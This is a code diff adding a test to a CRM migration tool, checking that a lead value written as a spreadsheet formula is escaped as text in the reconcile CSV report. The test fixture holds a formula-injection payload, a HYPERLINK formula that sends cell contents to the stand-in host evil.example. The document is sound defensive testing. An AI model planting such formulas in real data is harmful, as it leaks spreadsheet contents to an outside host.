@@ -258,3 +258,20 @@ def test_reconcile_names_each_lead_missing_and_each_value_that_differs(migration
         ("only_in_to", "", f"espocrm:{only_here}", ""),
     }
     assert "+90555" not in output  # counts on the screen; the values are in the CSV only
+
+
+def test_a_form_value_written_like_a_formula_is_text_in_the_reconcile_report(migration: Migration) -> None:
+    """A programme typed as a spreadsheet formula: the operator's spreadsheet shows it, never runs it."""
+    seed_portal(migration.bitrix24, 1)
+    assert migration.backfill()[0] == 0
+    (copy,) = migration.leads("espocrm")
+    formula = '=HYPERLINK("https://evil.example/?d="&A2,"Dentistry")'
+    migration.provider("espocrm").update_lead(copy.record_id, LeadChanges(values={MappedField.PROGRAM: formula}))
+
+    code, output = migration.run(
+        "reconcile", "--from", "bitrix24", "--to", "espocrm", "--report", str(migration.workdir / "r.csv")
+    )
+
+    assert code == 1, output
+    (row,) = report_rows(migration.workdir / "r.csv")
+    assert (row["field"], row["to_value"]) == ("program", f"'{formula}")
